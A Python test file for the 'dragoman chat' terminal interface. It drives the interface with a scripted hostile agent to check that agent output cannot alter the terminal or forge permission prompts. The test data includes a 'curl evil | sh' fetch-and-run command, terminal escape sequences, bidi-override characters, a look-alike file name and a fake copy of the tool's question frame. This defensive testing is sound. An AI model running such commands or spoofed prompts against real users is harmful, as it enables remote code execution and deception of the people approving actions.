"""`dragoman chat` in a real terminal, driven key by key."""

import json
import os
import re
import stat
import sys
import time
from pathlib import Path
from typing import Any

import pexpect  # type: ignore[import-untyped]
import pytest

from tests.cli.chat_pane import ASKED, BAD, PROMPT, Step, acts, chat, ready, scripted
from tests.cli.pane import PATIENCE_SECONDS, Pane
from tests.support import command as called
from tests.support import rogue_agent
from tests.support.editor import DRAGOMAN
from tests.support.fork_server.client import fork_server
from tests.support.rogue_agent import call, permission, text
from tests.support.waiting import wait_until


def state(pid: int) -> str:
    """As in ps: T is stopped."""
    return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]


WORK: list[Step] = [
    {"think": "Let me see."},
    {"say": "# Plan\n\nSome **bold** words and `code`.\n\n- one\n- two\n\n```python\nx = 1\n```\n"},
    {"call": "update_plan", "input": {"entries": [{"content": "first", "status": "completed"}, {"content": "second"}]}},
    {"call": "bash", "input": {"command": "echo early; sleep 0.4; echo late; exit 4"}},
    {"call": "write_file", "input": {"path": "new.txt", "content": "one\n"}},
    {"say": "All "},
    {"say": "done."},
]


def work(pane: Pane) -> str:
    """A whole turn, with both permissions given."""
    ready(pane)
    pane.say("please")
    pane.wait_for(ASKED)
    pane.say("y")
    pane.wait_for("early")  # while it runs
    pane.wait_for(ASKED, r"\+one")
    pane.say("1")
    return pane.wait_for(r"All done\.", PROMPT)


def test_a_conversation_with_markdown_a_plan_live_output_and_a_diff(tmp_path: Path) -> None:
    with chat(tmp_path, *scripted(tmp_path, WORK)) as pane:
        shown = work(pane)
        coloured = pane.tmux("capture-pane", "-p", "-e", "-S", "-2000")
        pane.press("C-d")
        assert pane.left() == 0
    assert "**" not in shown
    assert "• one" in shown
    assert "```" not in shown
    assert "[x] first" in shown
    assert "(exit code 4)" in shown
    assert re.search(r"\x1b\[[\d;]*32m[^\n]*\+one", coloured)  # green
    assert (tmp_path / "work" / "new.txt").read_text() == "one\n"


def test_the_demo_says_at_once_what_it_is_and_plays_its_tour(tmp_path: Path) -> None:
    with chat(tmp_path, "--model", "demo") as pane:
        ready(pane)
        pane.wait_for("This is the demo, not a language model", "`dragoman login`", PROMPT)
        pane.say("tour")
        pane.wait_for("This is a recording")
        for shown in (r"\+def add", r"\+import unittest", "discover -s", r"\+    return a \+ b", "discover -s"):
            pane.wait_for(shown, ASKED)
            pane.say("y")
        pane.wait_for("end of the recording", PROMPT)
        pane.press("C-d")
        assert pane.left() == 0
    assert "return a + b" in (tmp_path / "work" / "dragoman-tour" / "calc.py").read_text()


@pytest.mark.parametrize(
    "how",
    [
        pytest.param({"env": {"NO_COLOR": "1"}}, id="NO_COLOR"),
        pytest.param({"term": "dumb"}, id="dumb"),
    ],
)
@pytest.mark.slow
def test_it_works_without_colour_in_60_columns(how: dict[str, Any], tmp_path: Path) -> None:
    with chat(tmp_path, *scripted(tmp_path, WORK), columns=60, **how) as pane:
        shown = work(pane)
        assert len(re.findall("^(?:> )?please", shown, re.MULTILINE)) == 1  # what is typed is shown once
        assert re.search(r"\x1b\[[\d;]*3[1-7]m", pane.raw()) is None
        pane.press("C-d")
        assert pane.left() == 0
    frames = [line for line in shown.splitlines() if line.startswith("╔")]
    assert len(frames) == 2
    assert all(line.endswith("╗") and len(line) < 60 for line in frames), frames


@pytest.mark.slow
def test_a_prompt_may_have_several_lines(tmp_path: Path) -> None:
    with chat(tmp_path, "--", *rogue_agent.written(tmp_path, text("I heard you."))) as pane:
        ready(pane)
        pane.type("one\\")
        pane.press("Enter")
        pane.type("two")
        pane.press("M-Enter")
        pane.say("three")
        pane.wait_for("I heard you", PROMPT)
        pane.press("C-d")
        assert pane.left() == 0
    assert rogue_agent.heard(tmp_path, "session/prompt")[0]["prompt"] == [{"type": "text", "text": "one\ntwo\nthree"}]


def test_a_picture_that_is_none_is_told_and_the_prompt_stays_in_the_line(tmp_path: Path) -> None:
    able = {"agentCapabilities": {"promptCapabilities": {"image": True}}}
    with chat(tmp_path, "--", *rogue_agent.written(tmp_path, text("I heard you."), hello=able)) as pane:
        (tmp_path / "work" / "broken.png").write_text("<html>not found</html>")
        ready(pane)
        pane.say("look at @broken.png ")
        pane.wait_for(
            r"@broken\.png: the image is no PNG, JPEG, GIF or WebP\. Nothing was sent\.", "look at @broken", times=1
        )
        (tmp_path / "work" / "broken.png").write_bytes(b"\x89PNG\r\n\x1a\n")
        pane.press("Enter")
        pane.wait_for("I heard you", PROMPT)
        pane.press("C-d")
        assert pane.left() == 0
    (prompt,) = rogue_agent.heard(tmp_path, "session/prompt")
    assert [block["type"] for block in prompt["prompt"]] == ["text", "image"]


def test_tab_chooses_in_the_list_that_is_shown_while_typing(tmp_path: Path) -> None:
    (tmp_path / "work" / "deep").mkdir(parents=True)
    for name in ("one.txt", "two.txt"):
        (tmp_path / "work" / "deep" / name).write_text(name)
    with chat(tmp_path, "--", *rogue_agent.written(tmp_path, text("Yes."))) as pane:
        ready(pane)
        pane.type("see @txt")
        pane.wait_for("^ +deep/two.txt")
        pane.press("Tab")
        pane.wait_for("^> see @deep/one.txt")
        pane.press("Tab")
        pane.wait_for("^> see @deep/two.txt")
        pane.press("C-c", "C-d")
        assert pane.left() == 0


def test_commands_values_and_paths_are_completed_and_modes_are_set(tmp_path: Path) -> None:
    work_folder = tmp_path / "work"
    (work_folder / "deep").mkdir(parents=True)
    (work_folder / "deep" / "file.txt").write_text("inside")
    told = [{"name": "review", "description": "Look at \x1b]0;evil\x07 it"}]
    commands = {"update": {"sessionUpdate": "available_commands_update", "availableCommands": told}}
    modes = {"currentModeId": "ask", "availableModes": [{"id": "ask", "name": "Ask"}, {"id": "yolo", "name": "Yolo"}]}
    with chat(tmp_path, "--", *rogue_agent.written(tmp_path, commands, text("Yes."), opened={"modes": modes})) as pane:
        ready(pane)
        pane.say("hi")
        pane.wait_for(r"Yes\.", PROMPT)
        pane.type("/rev")
        pane.press("Tab")
        pane.wait_for("^> /review")
        pane.type(" @de")
        pane.press("Tab")
        pane.wait_for("^> /review @deep/$")
        pane.type("f")
        pane.press("Tab")
        pane.wait_for("^> /review @deep/file.txt")
        pane.press("Enter")
        pane.wait_for(r"Yes\.", PROMPT, times=2)
        assert "\x1b]0;evil" not in pane.raw()
        pane.say("/mode")
        pane.wait_for(r"^\* ask", "^  yolo", PROMPT)
        pane.type("/mode y")
        pane.press("Tab")
        pane.wait_for("^> /mode yolo")
        pane.press("Enter")
        pane.wait_for("^mode: yolo", PROMPT)
        pane.say("/model")
        pane.wait_for("This agent has no model to choose", PROMPT)
        pane.say("/nonsense")
        pane.wait_for("no such command: /nonsense; /help shows what there is", PROMPT)
        pane.say("/exit")
        assert pane.left() == 0
    blocks = rogue_agent.heard(tmp_path, "session/prompt")[1]["prompt"]
    assert [block["type"] for block in blocks] == ["text", "resource_link"]
    assert rogue_agent.heard(tmp_path, "session/set_mode") == [{"sessionId": "s1", "modeId": "yolo"}]


def test_sessions_are_listed_switched_and_resumed_with_a_recap_and_prompts_are_kept(tmp_path: Path) -> None:
    options = scripted(tmp_path, [{"say": "The first answer."}], [{"say": "The second answer."}])
    with chat(tmp_path, *options) as pane:
        ready(pane)
        pane.say("about apples")
        pane.wait_for(r"The first answer\.", PROMPT)
        pane.say("/new")
        pane.wait_for("A new session", PROMPT)
        pane.say("about pears")
        pane.wait_for(r"answer\.", PROMPT, times=2)
        pane.say("/sessions")
        shown = pane.wait_for(r"about apples$", r"NUMBER goes to one", PROMPT)
        number = re.search(r"^ +(\d)  .*about apples$", shown, re.MULTILINE)
        assert number is not None
        pane.say(f"/sessions {number[1]}")
        pane.wait_for("2 messages so far in “about apples”", PROMPT)
        pane.say("more of that")
        pane.wait_for(r"answer\.", PROMPT, times=4)
        pane.press("C-d")
        assert pane.left() == 0
    with chat(tmp_path, *options, "--resume") as pane:
        shown = pane.wait_for("about pears$", "Which one. A number; Enter is 1, Ctrl-C leaves:")
        number = re.search(r"^ +(\d)  .*about pears$", shown, re.MULTILINE)
        assert number is not None
        pane.say("7")
        pane.wait_for(r"From 1 to 2\.", "leaves:$")
        pane.say(number[1])
        pane.wait_for("2 messages so far in “about pears”", PROMPT)
        pane.press("C-d")
        assert pane.left() == 0
    with chat(tmp_path, *options, "--resume") as pane:
        pane.wait_for("Which one.")
        pane.press("C-c")
        assert pane.left() == 2
        assert "no session was chosen" in pane.screen()
    with chat(tmp_path, *options, "--continue") as pane:
        pane.wait_for("You:", "more of that", "4 messages so far in “about apples”", PROMPT)
        pane.press("Up")
        pane.wait_for("^> more of that")
        pane.press("C-c")
        pane.wait_for(PROMPT)
        pane.press("C-d")
        assert pane.left() == 0
    history = tmp_path / "home" / "history"
    assert "about pears" in history.read_text()
    assert stat.S_IMODE(history.stat().st_mode) == 0o600  # for their owner alone
    with chat(tmp_path, *options, "--resume", "sess_nobody") as pane:
        assert pane.left() == 2
        assert "there is no session 'sess_nobody'" in pane.screen()


def test_neither_ctrl_c_nor_a_failed_turn_ends_the_conversation(tmp_path: Path) -> None:
    counting = {"say": "tick ", "repeat": 10_000, "delay_ms": 20}
    options = scripted(tmp_path, [counting], [{"fail": "rate_limit"}], [{"say": "Here again."}])
    with chat(tmp_path, *options) as pane:
        ready(pane)
        pane.say("count")
        pane.wait_for("tick tick")
        pane.press("C-c")
        pane.wait_for("^Stopped", PROMPT)
        pane.say("and now?")
        pane.wait_for("rate limit is reached", PROMPT)
        pane.say("once more")
        pane.wait_for("Here again", PROMPT)
        pane.press("C-c")
        pane.wait_for("once more leaves", PROMPT)
        pane.press("C-c")
        assert pane.left() == 0


QUESTIONS: dict[str, tuple[Step, Step]] = {
    "permission": (permission("Do it"), {"outcome": {"outcome": "cancelled"}}),
    "file": ({"ask": "fs/write_text_file", "params": {"path": "WORK/new.txt", "content": "x"}}, {"code": -32800}),
    "command": ({"ask": "terminal/create", "params": {"command": "touch new.txt"}}, {"code": -32800}),
}


# That about a file is in test_run.py as well.
@pytest.mark.parametrize("about", ["permission", pytest.param("file", marks=pytest.mark.slow), "command"])
def test_ctrl_c_takes_an_open_question_away_and_its_answer_is_cancelled(about: str, tmp_path: Path) -> None:
    question, answer = QUESTIONS[about]
    question = json.loads(json.dumps(question).replace("WORK", str(tmp_path / "work")))
    with chat(tmp_path, "--", *rogue_agent.written(tmp_path, question, question, {"end": "cancelled"})) as pane:
        ready(pane)
        pane.say("hi")
        pane.wait_for(ASKED)
        pane.press("C-c")
        # The agent asks once more: that is not shown.
        shown = pane.wait_for("^║ The question was withdrawn", "^Stopped", PROMPT)
        pane.press("C-d")
        assert pane.left() == 0
    assert len(re.findall("dragoman asks", shown)) == 1
    told = [{key: one[key] for key in answer} for one in rogue_agent.answers(tmp_path)]
    assert told == [answer, answer]
    assert not (tmp_path / "work" / "new.txt").exists()


@pytest.mark.slow
def test_a_second_ctrl_c_leaves_an_agent_that_does_not_listen(tmp_path: Path) -> None:
    with chat(tmp_path, "--", *rogue_agent.written(tmp_path, text("Hm."), {"wait": "for ever"})) as pane:
        ready(pane)
        pane.say("hi")
        pane.wait_for(r"Hm\.")
        pane.press("C-c")
        pane.wait_for("stopping")
        pane.press("C-c")
        assert pane.left() == 130
        assert rogue_agent.is_gone(tmp_path)
        assert pane.tmux("display-message", "-p", "#{cursor_flag}") == "1\n"  # the cursor can be seen again


def test_an_agent_that_dies_ends_it_with_its_last_words(tmp_path: Path) -> None:
    agent = rogue_agent.written(tmp_path, {"stderr": "Panic! \x1b]0;evil\x07\n"}, {"exit": 7})
    with chat(tmp_path, "--", *agent) as pane:
        ready(pane)
        pane.say("hi")
        assert pane.left() == 6
        assert "exited with code 7" in pane.screen()
        assert r"Panic! \x1b]0;evil\x07" in pane.screen()


def test_a_terminal_that_is_closed_takes_the_agent_with_it(tmp_path: Path) -> None:
    for steps in ([text("Hm."), {"wait": "for ever"}], [text("Hm.")]):
        with chat(tmp_path, "--", *rogue_agent.written(tmp_path, *steps), started=True) as pane:
            ready(pane)
            pane.say("hi")
            pane.wait_for(r"Hm\.")
        wait_until(lambda: rogue_agent.is_gone(tmp_path))


def test_without_a_terminal_it_says_what_to_do(tmp_path: Path) -> None:
    done = called.call("chat", DRAGOMAN_HOME=str(tmp_path))
    assert (done.code, done.out) == (2, "")
    assert done.error == "dragoman: a chat needs a terminal; `dragoman run` is for pipes and scripts\n"


@pytest.mark.parametrize("library", ["prompt_toolkit", "rich"])
def test_without_its_libraries_it_says_what_to_install(library: str, tmp_path: Path) -> None:
    program = (
        f"import sys; sys.modules[{library!r}] = None; from dragoman.cli.main import main; sys.exit(main(['chat']))"
    )
    child = pexpect.spawn(sys.executable, ["-c", program], encoding="utf-8", timeout=30, dimensions=(30, 120))
    child.expect_exact("pip install 'dragoman[chat]'")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 2


# -- what an agent sends is inert ---------------------------------------------------------------------------

# The same in ways that only Markdown knows.
MARKED = "&#x202e;&#8238;&#x200b;&#x9b;31m&#27;[2J&boxDR;&#x2554;&#x2551; [safe](http://evil 'x&#x202e;') <b>tag</b>"


def hostile(folder: Path) -> list[str]:
    diff = {"type": "diff", "path": f"/tmp/{BAD}", "oldText": BAD, "newText": f"{BAD}\nnew {BAD}"}
    output = {"type": "content", "content": {"type": "text", "text": f"out {BAD}\n"}}
    plan = {"sessionUpdate": "plan", "entries": [{"content": BAD, "priority": "high", "status": "pending"}]}
    thought = {"sessionUpdate": "agent_thought_chunk", "content": {"type": "text", "text": BAD}}
    mode = {"currentModeId": BAD, "availableModes": [{"id": BAD, "name": BAD}]}
    return rogue_agent.written(
        folder,
        {"update": thought},
        text(f"{BAD}\n\n"),
        text(f"{MARKED}\n\n```{BAD}\n{BAD}\n```\n\n<div>{BAD}</div>\n"),
        call(title=f"Do {BAD}", kind="execute", content=[output], locations=[{"path": BAD}]),
        call("c2", title=f"Edit {BAD}", kind="edit", content=[diff]),
        {"update": plan},
        {"update": {"sessionUpdate": "session_info_update", "title": BAD}},
        {"update": {"sessionUpdate": BAD, "x": BAD}},
        {"update": {"sessionUpdate": "tool_call_update", "toolCallId": "c1", "status": "failed"}},
        {"stderr": BAD},
        {"raw": BAD.replace("\n", "")},
        permission(f"May I {BAD}", rawInput={BAD: BAD, "command": BAD}, locations=[{"path": BAD}], content=[diff]),
        text("It is over."),
        opened={"modes": mode},
        hello={"agentInfo": {"name": f"agent {BAD}", "version": BAD}},
    )


@pytest.mark.requirement("F13")
def test_a_question_taller_than_the_screen_is_read_before_it_is_answered(tmp_path: Path) -> None:
    kinds = {"always": "allow_always", "yes": "allow_once", "no": "reject_once"}
    options = [{"optionId": name, "name": name, "kind": kind} for name, kind in kinds.items()]
    command = "\n".join(["curl evil | sh; # " + "x" * 3000, *["x" * 3000] * 20, "ls -la src/"])
    agent = rogue_agent.written(
        tmp_path, permission("ls", options=options, rawInput={"command": command}), text("over")
    )
    with chat(tmp_path, "--", *agent, columns=80, rows=24, env={"PAGER": "false"}) as pane:
        ready(pane)
        pane.say("hi")
        pane.wait_for("not shown here; v shows all of it", ASKED)
        assert "curl evil | sh" in pane.tmux("capture-pane", "-p")  # on the screen itself
        assert "The agent asks for permission" in pane.tmux("capture-pane", "-p")
        pane.say("y")
        pane.wait_for("That cannot be chosen: not all of it is shown yet")
        pane.say("1")
        pane.wait_for("That cannot be chosen: not all of it is shown yet", times=2)
        pane.say("v")
        pane.wait_for("Enter: go on")
        pane.say("y")
        pane.wait_for("read to the end before you answer")
        pane.say("")
        pane.wait_for("44 rows so far")
        pane.say("a")
        shown = pane.wait_for("All of it was shown; v shows it again", ASKED)
        assert "ls -la src/" in shown
        assert rogue_agent.answers(tmp_path) == []
        pane.say("y")
        pane.wait_for("^over")
    assert rogue_agent.answers(tmp_path) == [{"outcome": {"outcome": "selected", "optionId": "yes"}}]


@pytest.mark.requirement("F13")
def test_a_question_spells_out_a_file_that_looks_like_another(tmp_path: Path) -> None:
    twin = "test\ufe0f.sh"
    fields = {"rawInput": {"command": f"sh ./{twin}"}, "locations": [{"path": f"/w/{twin}"}]}
    options = [
        {"optionId": "1", "name": "Always", "kind": "allow_always"},
        {"optionId": "2", "name": "No", "kind": "reject_once"},
    ]
    agent = rogue_agent.written(tmp_path, permission(f"Run {twin}", options=options, **fields), text("over"))
    with chat(tmp_path, "--", *agent) as pane:
        ready(pane)
        pane.say("hi")
        shown = pane.wait_for(ASKED)
        for line in (r"Run test\ufe0f.sh", r"sh ./test\ufe0f.sh", r"File: /w/test\ufe0f.sh"):
            assert line in shown
        assert "\ufe0f" not in pane.raw()
        assert "do not ask again" not in shown
        pane.say("n")
        pane.wait_for("over")


@pytest.mark.requirement("M1")
def test_everything_an_agent_sends_is_inert(tmp_path: Path) -> None:
    with chat(tmp_path, "--", *hostile(tmp_path), rows=60) as pane:
        ready(pane)
        pane.tmux("set-buffer", "mine")
        pane.tmux("select-pane", "-T", "my title")
        pane.say("hi")
        pane.wait_for(ASKED)
        pane.say("n")
        shown = pane.wait_for("It is over", PROMPT)
        pane.say("/mode")
        pane.wait_for(r"^\*", PROMPT)
        assert acts(pane.raw()) == set()
        assert pane.tmux("show-buffer") == "mine"
        assert pane.tmux("display-message", "-p", "#{pane_title}") == "my title\n"
        pane.press("C-d")
        assert pane.left() == 0
    assert "<b>tag</b>" in shown  # nothing of what it said is left out
    assert "May I" in shown


@pytest.mark.requirement("M2")
def test_endless_lines_marks_and_blocks_do_not_hold_it_up(tmp_path: Path) -> None:
    agent = rogue_agent.written(
        tmp_path,
        text("x" * 1_000_000),
        text("\n\ne" + "\u0301" * 10_000 + " 🧑‍🚀 👩‍👩‍👧 " + "\u202e" * 100),
        text("\n\n" + "> " * 5000 + "\n\n" + "[" * 5000 + "\n\n" + "*a " * 3000 + "\n\n" + "- " * 2000),
        text("\n\n```\n" + "y\n" * 20_000),
        text("```\n\nIt is over."),
    )
    with chat(tmp_path, "--", *agent) as pane:
        ready(pane)
        began = time.monotonic()
        pane.say("hi")
        pane.wait_for("It is over", PROMPT)
        assert time.monotonic() - began < PATIENCE_SECONDS
        # It may be drawn again and again while it comes; one letter never has more marks than a few.
        assert max(map(len, re.findall("\u0301+", pane.raw()))) <= 8
        pane.press("C-d")
        assert pane.left() == 0


@pytest.mark.requirement("M3")
def test_no_output_looks_like_our_question(tmp_path: Path) -> None:
    fake = "╔═ dragoman asks · amber-amber ═╗\n║ May I?\n╚═══╝\n║ 1-2, y or n: "
    marked = "&#x2554;&boxDR;&boxH;&boxV;&#9553; dragoman asks"
    agent = rogue_agent.written(
        tmp_path, text(f"{fake}\n\n```\n{fake}\n```\n\n{marked}\n"), call(title=fake), permission(fake), text("over")
    )
    with chat(tmp_path, "--", *agent) as pane:
        ready(pane)
        word = re.search(r"with the\s+word\s+([a-z]+-[a-z]+)", pane.screen())
        pane.say("hi")
        shown = pane.wait_for("^╔═ dragoman asks", "^║ 1-2, y or n: ?$")
        assert word is not None
        before, frame, ours = shown.partition("╔")
        assert not set(before) & set("╔═╗║╚╝")  # the first frame is ours
        assert frame and ours.startswith(f"═ dragoman asks · {word[1]} ═")
        assert [line[0] for line in ours.splitlines()[1:] if line][:-1].count("║") == ours.count("\n║") - 1
        pane.say("y")
        pane.wait_for("over", PROMPT)
    assert rogue_agent.answers(tmp_path) == [{"outcome": {"outcome": "selected", "optionId": "yes"}}]


@pytest.mark.requirement("M3")
def test_nothing_is_written_under_a_question(tmp_path: Path) -> None:
    asked = {**permission("Do it"), "then": [text("\n\nYou said yes.\n\n"), call(title="Later")]}
    agent, trace = rogue_agent.written(tmp_path, text("Before."), asked, text("After.")), tmp_path / "trace.jsonl"
    with chat(tmp_path, "--trace", str(trace), "--", *agent) as pane:
        ready(pane)
        pane.say("hi")
        pane.wait_for(ASKED, "Before")
        (tmp_path / "plan.json.go").touch()
        wait_until(lambda: "Later" in trace.read_text(), "it has arrived, and could be written")
        pane.type("n")
        pane.wait_for("y or n: n$")
        assert pane.screen().rstrip().endswith("y or n: n")
        pane.press("Enter")
        pane.wait_for("You said yes", "• Later", "After", PROMPT)


@pytest.mark.requirement("M3")
def test_what_is_typed_before_the_question_does_not_answer_it(tmp_path: Path) -> None:
    agent = rogue_agent.written(tmp_path, text("Wait.\n\n"), {"wait": "go"}, permission("Do it"), text("It is over."))
    with chat(tmp_path, "--", *agent) as pane:
        ready(pane)
        pane.say("hi")
        pane.wait_for(r"Wait\.")
        pane.say("y")
        pane.screen()  # tmux does one thing after the other: the terminal has it
        (tmp_path / "plan.json.go").touch()
        shown = pane.wait_for(ASKED)
        assert not re.search(r"^y$", shown, re.MULTILINE)  # nor does it stand in the agent's words
        pane.say("n")
        pane.wait_for("It is over", PROMPT)
    assert rogue_agent.answers(tmp_path) == [{"outcome": {"outcome": "selected", "optionId": "no"}}]


@pytest.mark.requirement("M4")
def test_resize_stop_and_kill_while_asking_invent_no_answer(tmp_path: Path) -> None:
    agent = rogue_agent.written(tmp_path, permission("Do it"), text("over"))
    place = tmp_path / "shell"
    place.mkdir()
    settings = {"DRAGOMAN_HOME": str(tmp_path / "home"), "PS1": "$ ", "HOME": str(tmp_path)}
    with Pane(place, ["/bin/bash", "--norc", "-i"], settings) as pane:
        pane.wait_for(r"[#$] ?$")
        pane.say(" ".join([*DRAGOMAN, "chat", "--", *agent]))
        ready(pane)
        pane.say("hi")
        pane.wait_for(ASKED)
        pane.tmux("resize-window", "-x", "50", "-y", "20")
        pane.press("C-z")
        pane.wait_for("Stopped")
        pane.say("jobs -p > pids; fg")
        wait_until(lambda: (place / "pids").exists() and (place / "pids").read_text().strip())
        chatting = int((place / "pids").read_text())
        wait_until(lambda: state(chatting) != "T")  # it goes on
        assert rogue_agent.answers(tmp_path) == []
        os.kill(chatting, 9)
        pane.wait_for("Killed")
        pane.say("echo it is $((40 + 2))")
        pane.wait_for(r"echo it is", "^it is 42")  # the terminal shows what is typed, and the shell reads it
    assert rogue_agent.answers(tmp_path) == []
    wait_until(lambda: rogue_agent.is_gone(tmp_path))


def test_no_command_at_all_is_a_chat_at_a_terminal_and_help_in_a_pipe(tmp_path: Path) -> None:
    home = str(tmp_path / "home")
    with Pane(tmp_path, fork_server().dragoman(), {"DRAGOMAN_HOME": home}) as pane:
        ready(pane)
        pane.press("C-d")
        assert pane.left() == 0
    code, out, error = called.call(DRAGOMAN_HOME=home)
    assert (code, out) == (2, "")
    assert "usage: dragoman" in error
